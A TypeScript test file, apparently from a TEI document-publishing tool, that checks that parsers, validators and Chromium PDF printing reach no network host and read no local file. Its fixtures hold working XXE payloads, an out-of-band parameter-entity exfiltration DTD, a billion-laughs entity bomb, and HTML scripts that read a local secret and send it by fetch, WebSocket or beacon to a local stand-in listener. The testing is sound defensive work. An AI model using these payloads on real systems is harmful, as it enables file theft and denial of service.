/**
 * No document reaches the network or reads a local file (issue 13 item 1).
 *
 * A listener on 127.0.0.1 counts every connection. Hostile documents point at
 * it in every way a parser, validator or browser could follow: an external
 * DTD, parameter entities (the out-of-band exfiltration Jing fell for), an
 * external entity, `xml-model`, `xi:include`; and, in an HTML input and a
 * print HTML, `<img>`, `<link>`, CSS `url()` and `@import`, scripts, frames.
 * Each goes through `build` (every format, the PDF included), `validate` and
 * `validate --tei-all`; the listener must see nothing, and a secret local file
 * named by `file:` URLs must appear in no output.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import { CLI } from '../cli-helpers.js';
import { teiDocument, VALID } from '../validate-docs.js';
import { MessageLog } from '../../pipeline/messages.js';
import { DEFAULT_CHROMIUM } from '../../pipeline/settings.js';

const CHROMIUM = process.env.TEI_PRESS_CHROMIUM ?? DEFAULT_CHROMIUM;
const HAVE_CHROMIUM = existsSync(CHROMIUM);
const HAVE_JING = !!process.env.PATH?.split(path.delimiter).some((dir) => existsSync(path.join(dir, 'jing')));
// tei_all where the shared folder has it; else the project schema, which Jing reads just the same.
const TEI_ALL = existsSync(path.resolve('../shared/schemas/tei_all.rng')) ? path.resolve('../shared/schemas/tei_all.rng') : path.resolve('tei/tei-press.rng');

const work = mkdtempSync(path.join(tmpdir(), 'tei-press-network-'));
const SECRET_MARK = 'SECRET-7f3a9c-not-for-any-output';
const SECRET = path.join(work, 'secret.txt');
writeFileSync(SECRET, `${SECRET_MARK}\n`);
const SECRET_URL = `file://${SECRET}`;

let server: Server;
let base = '';
const seen: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url} (${request.headers['user-agent'] ?? 'no user agent'})`);
    // What an attacker's server answers for evil.dtd: it sends the local file named by %file; back to the server.
    response.end(`<!ENTITY % all "<!ENTITY &#x25; send SYSTEM '${base}/exfil?%file;'>">%all;%send;`);
  });
  // A connection counts even if no HTTP request follows it.
  server.on('connection', () => seen.push('connection'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  rmSync(work, { recursive: true, force: true });
});

/** Runs the CLI without blocking this process's event loop (the listener must be able to answer). */
function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [CLI, ...args], { encoding: 'utf8', timeout: 240_000, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
      resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

/** Every file under `dir`, with the text of each (EPUB members included). */
async function allText(dir: string): Promise<string> {
  let text = '';
  for (const name of readdirSync(dir)) {
    const file = path.join(dir, name);
    if (statSync(file).isDirectory()) text += await allText(file);
    else if (name.endsWith('.epub')) {
      const zip = await JSZip.loadAsync(readFileSync(file));
      for (const member of Object.values(zip.files)) if (!member.dir) text += await member.async('string');
    } else text += readFileSync(file, 'latin1');
  }
  return text;
}

/** The hostile TEI documents, by name, with the rule each must be refused by (undefined: accepted, but nothing followed). */
function hostileTei(): Record<string, { xml: string; rule?: string }> {
  const root = '<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="en">';
  const withDoctype = (doctype: string, body?: string) => {
    const xml = teiDocument(body ? { body } : {});
    return xml.replace(root, `${doctype}\n${root}`);
  };
  return {
    'external DTD': { xml: withDoctype(`<!DOCTYPE TEI SYSTEM "${base}/dtd/tei.dtd">`), rule: 'security:external-dtd' },
    'public DTD': { xml: withDoctype(`<!DOCTYPE TEI PUBLIC "-//TEI//DTD TEI P5//EN" "${base}/dtd/public.dtd">`), rule: 'security:external-dtd' },
    'parameter entities (exfiltration)': {
      xml: withDoctype(`<!DOCTYPE TEI [\n  <!ENTITY % file SYSTEM "${SECRET_URL}">\n  <!ENTITY % dtd SYSTEM "${base}/evil.dtd">\n  %dtd;\n]>`),
      rule: 'security:parameter-entity',
    },
    'external entity (local file)': {
      xml: withDoctype(`<!DOCTYPE TEI [\n  <!ENTITY xxe SYSTEM "${SECRET_URL}">\n]>`, '<body><div><p>Read: &xxe;</p></div></body>'),
      rule: 'security:external-entity',
    },
    'external entity (URL)': {
      xml: withDoctype(`<!DOCTYPE TEI [\n  <!ENTITY remote SYSTEM "${base}/entity.txt">\n]>`, '<body><div><p>Read: &remote;</p></div></body>'),
      rule: 'security:external-entity',
    },
    'xi:include': {
      xml: teiDocument({ body: `<body><div><p>Before.</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${base}/include.xml" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${SECRET_URL}" parse="text"/></div></body>` }),
      rule: 'security:xinclude',
    },
    'xml-model': { xml: VALID.replace('<?xml-model href="tei-press.rng"', `<?xml-model href="${base}/schema.rng"`).replace('<?xml-model href="tei-press.sch"', `<?xml-model href="${SECRET_URL}"`) },
    'billion laughs': {
      xml: withDoctype(
        `<!DOCTYPE TEI [\n${['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('\n')}\n]>`,
        '<body><div><p>&lol9;</p></div></body>',
      ),
      rule: 'security:entity-expansion',
    },
  };
}

describe('no document reaches the network or a local file', () => {
  it.skipIf(!HAVE_JING)('validate and validate --tei-all refuse each hostile TEI before any tool reads it' + (HAVE_JING ? '' : ' — skipped: jing is not installed'), async () => {
    for (const [name, { xml, rule }] of Object.entries(hostileTei())) {
      const file = path.join(work, `${name.replace(/\W+/g, '-')}.tei.xml`);
      writeFileSync(file, xml);
      for (const extra of [[], ['--tei-all', TEI_ALL]]) {
        const result = await cli(['validate', file, ...extra]);
        const said = `${name} ${extra.join(' ')}: ${result.stderr}`;
        if (rule) {
          expect(result.code, said).toBe(1);
          // file:line:col: error: … [rule]
          expect(result.stderr, said).toMatch(new RegExp(`${path.basename(file).replace(/[.]/g, '\\.')}:\\d+:\\d+: error: .*\\[${rule}\\]`));
        } else {
          expect(result.code, said).toBe(0);
        }
        expect(result.stderr + result.stdout, said).not.toContain(SECRET_MARK);
      }
    }
    expect(seen).toEqual([]);
  }, 600_000);

  it('refuses a register with an external entity (--registers) and reads nothing', async () => {
    const registers = path.join(work, 'registers');
    rmSync(registers, { recursive: true, force: true });
    await import('node:fs/promises').then((fs) => fs.mkdir(registers));
    writeFileSync(
      path.join(registers, 'persons.xml'),
      `<?xml version="1.0"?>\n<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "${base}/reg.dtd"> %remote; <!ENTITY xxe SYSTEM "${SECRET_URL}">]>\n<TEI xmlns="http://www.tei-c.org/ns/1.0"><standOff><listPerson><person xml:id="pers-x"><persName>&xxe;</persName></person></listPerson></standOff></TEI>\n`,
    );
    const input = path.join(work, 'plain.txt');
    writeFileSync(input, 'Jane Doe\n\nA Title\n\n\nA paragraph of text.\n');
    const result = await cli(['build', input, '--out', path.join(work, 'out-registers'), '--registers', registers]);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/persons\.xml:2:\d+: .*\[security:parameter-entity\]/);
    expect(result.stderr + result.stdout).not.toContain(SECRET_MARK);
    expect(seen).toEqual([]);
  });

  it('builds a hostile HTML page in every format, the PDF included, without a request or a local file', async () => {
    const page = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "${base}/dtd/xhtml1.dtd">
<html><head><title>A Hostile Page</title>
<meta http-equiv="refresh" content="0; url=${base}/refresh">
<link rel="stylesheet" href="${base}/css/link.css"><link rel="icon" href="${base}/favicon.ico"><link rel="prefetch" href="${base}/prefetch">
<style>@import url("${base}/css/import.css"); body { background: url("${base}/css/background.png") } @font-face { font-family: X; src: url("${base}/font.woff") }</style>
<script src="${base}/js/script.js"></script><script>fetch("${base}/js/fetch")</script>
</head><body onload="fetch('${base}/js/onload')">
<p class="title">Jane Doe</p>
<h1>A Hostile Page</h1>
<p>The first paragraph has a picture <img src="${base}/img/picture.png" alt="a picture" srcset="${base}/img/2x.png 2x"> and a local one <img src="${SECRET_URL}" alt="a local file">.</p>
<p style="background-image: url(${base}/css/inline.png)">The second paragraph has an inline style and a <a href="${base}/link">link</a>.</p>
<iframe src="${base}/frame"></iframe><object data="${base}/object"></object><embed src="${base}/embed">
<video src="${base}/video.mp4" poster="${base}/poster.png"></video><audio src="${base}/audio.mp3"></audio>
<svg xmlns="http://www.w3.org/2000/svg"><image href="${base}/svg.png"/></svg>
<form action="${base}/form"><input type="image" src="${base}/input.png"></form>
<p>The third paragraph ends the page.</p>
</body></html>
`;
    const input = path.join(work, 'hostile.html');
    writeFileSync(input, page);
    const out = path.join(work, 'out-html');
    const formats = HAVE_CHROMIUM ? 'tei,epub,html,archive,review,pdf,bag' : 'tei,epub,html,archive,review,bag';
    const result = await cli(['build', input, '--out', out, '--formats', formats, ...(HAVE_JING ? ['--tei-all', TEI_ALL] : [])]);
    expect(result.code, result.stderr).toBe(0);
    const outputs = await allText(out);
    if (HAVE_CHROMIUM) expect(readdirSync(path.join(out, readdirSync(out).find((name) => !name.includes('.'))!)).some((name) => name.endsWith('.pdf'))).toBe(true);
    expect(outputs).not.toContain(SECRET_MARK);
    expect(outputs).toContain('The third paragraph ends the page.');
    expect(seen).toEqual([]);
  }, 300_000);

  it.skipIf(!HAVE_CHROMIUM)('prints a hostile print HTML with Chromium offline: no request, no local file, each attempt a warning' + (HAVE_CHROMIUM ? '' : ` — skipped: no Chromium at ${CHROMIUM}`), async () => {
    const { renderPdf, closePrintBrowser } = await import('../../pipeline/writers/pdf.js');
    const html = `<!DOCTYPE html><html><head><title>x</title>
<link rel="stylesheet" href="${base}/print/link.css"><link rel="stylesheet" href="${SECRET_URL}">
<style>@import url("${base}/print/import.css"); body { background: url("${base}/print/bg.png") } @font-face { font-family: X; src: url("${base}/print/font.woff") } p { font-family: X }</style>
</head><body><p>Text with <img src="${base}/print/img.png" alt="remote"> and <img src="${SECRET_URL}" alt="local"> and <img src="../../${SECRET}" alt="relative"> and <iframe src="${SECRET_URL}"></iframe>.</p>
<script>fetch("${SECRET_URL}").then((r) => r.text()).then((t) => { document.body.append(t); fetch("${base}/print/exfil?" + encodeURIComponent(t)); }, () => {});
const ws = (() => { try { return new WebSocket("${base.replace('http', 'ws')}/print/ws"); } catch { return null; } })();
navigator.sendBeacon && navigator.sendBeacon("${base}/print/beacon", "x");</script>
</body></html>`;
    const log = new MessageLog('hostile.html');
    const pdf = await renderPdf([{ name: 'hostile.html', data: html }], 'hostile.html', { chromium: CHROMIUM, date: '2025-01-02', log });
    await closePrintBrowser();
    expect(Buffer.from(pdf).toString('latin1').slice(0, 5)).toBe('%PDF-');
    expect(Buffer.from(pdf).toString('latin1')).not.toContain(SECRET_MARK);
    const refused = log.messages.filter((message) => message.ruleId === 'pdf:remote-resource').map((message) => message.reason);
    expect(refused.some((reason) => reason.includes(`${base}/print/img.png`))).toBe(true);
    expect(refused.some((reason) => reason.includes(SECRET_URL))).toBe(true);
    expect(seen).toEqual([]);
  }, 180_000);
});
